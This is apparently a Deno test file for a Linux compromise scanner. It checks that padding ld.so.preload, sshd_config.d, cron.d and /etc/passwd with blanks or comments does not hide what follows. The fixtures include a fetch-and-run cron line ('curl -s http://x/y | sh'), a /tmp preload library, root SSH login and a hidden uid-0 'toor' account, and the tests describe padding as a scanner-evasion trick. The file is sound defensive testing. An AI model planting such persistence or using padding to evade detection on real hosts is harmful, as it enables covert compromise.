/**
 * Padding a file past what the scan reads does not hide what follows: each reader takes what its program takes
 * (ld.so.preload, sshd_config and PAM files up to bounds no real file comes near), and a file past the bound is a
 * finding of its own (persistence files, account files), never only a warning.
 */
import assert from "node:assert/strict";
import { accounts } from "../../src/scanners/accounts/index.ts";
import { auth } from "../../src/scanners/auth/index.ts";
import { ioc } from "../../src/scanners/ioc/index.ts";
import { persistence } from "../../src/scanners/persistence/index.ts";
import { LIMITS } from "../../src/scanners/persistence/collect.ts";
import { ACCOUNT_FILE_BYTES } from "../../src/scanners/accounts/db.ts";
import { makeTree, runOne } from "../helpers.ts";
import { withAccounts } from "./persistence_fixtures.ts";
import { CLEAN } from "./accounts_fixtures.ts";

const ids = (fs: { check_id: string; severity: string }[]) =>
  fs.map((f) => `${f.severity} ${f.check_id}`).sort();

Deno.test("padding: /etc/ld.so.preload with 70,000 blanks before the library is still read", async () => {
  using root = makeTree({
    "etc/ld.so.preload": `${" ".repeat(70_000)}\n/tmp/.x/libx.so\n`,
    "tmp/.x/libx.so": "\x7fELF",
  });
  const r = await runOne(ioc, root.path);
  const f = r.findings.find((x) => x.check_id === "ioc.ld_so_preload.entries");
  assert.ok(f, "the preload is reported");
  // A system-wide preload is high at least (critical when the library's place is writable: not in this copy).
  assert.deepEqual([f.severity, f.metadata.entries], ["high", ["/tmp/.x/libx.so"]]);
  using quiet = makeTree({ "etc/ld.so.preload": `${" ".repeat(70_000)}\n# nothing\n` });
  const q = await runOne(ioc, quiet.path);
  assert.deepEqual(q.findings.filter((x) => x.check_id === "ioc.ld_so_preload.entries"), []);
});

Deno.test("padding: sshd_config.d with a megabyte of comments before PermitRootLogin is still read", async () => {
  using root = makeTree({
    "etc/ssh/sshd_config": "Include /etc/ssh/sshd_config.d/*.conf\n",
    "etc/ssh/sshd_config.d/00-x.conf": `${"# padding padding padding\n".repeat(45_000)}PermitRootLogin yes\n`,
  });
  const r = await runOne(auth, root.path);
  assert.ok(r.findings.some((f) => f.check_id === "auth.sshd.permit_root_login"), ids(r.findings).join(", "));
});

Deno.test("padding: a persistence file past the read bound is a finding; what fits is judged", async () => {
  const pad = "#".repeat(99) + "\n";
  using root = makeTree(withAccounts({
    "etc/cron.d/evil": pad.repeat(Math.ceil(LIMITS.fileBytes / pad.length)) +
      "* * * * * root curl -s http://x/y | sh\n",
    "etc/cron.d/ok": "0 3 * * * root /usr/bin/true\n",
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.deepEqual(
    r.findings.filter((f) => f.check_id.startsWith("persistence.file.")).map((f) =>
      `${f.check_id} ${f.metadata.path}`
    ),
    ["persistence.file.oversized /etc/cron.d/evil"],
  );
});

Deno.test("padding: an account file past the read bound is a high finding; a stock one is not", async () => {
  const pad = "#".repeat(1023) + "\n";
  using root = makeTree({
    ...CLEAN,
    "etc/passwd": CLEAN["etc/passwd"] + pad.repeat(ACCOUNT_FILE_BYTES / pad.length) +
      "toor:x:0:0::/root:/bin/bash\n",
  });
  const r = await runOne(accounts, root.path);
  assert.deepEqual(
    r.findings.filter((f) => f.check_id === "accounts.file.oversized").map((f) =>
      `${f.severity} ${f.metadata.path}`
    ),
    ["high /etc/passwd"],
  );
  using quiet = makeTree(CLEAN);
  const q = await runOne(accounts, quiet.path);
  assert.deepEqual(q.findings.filter((f) => f.check_id === "accounts.file.oversized"), []);
});
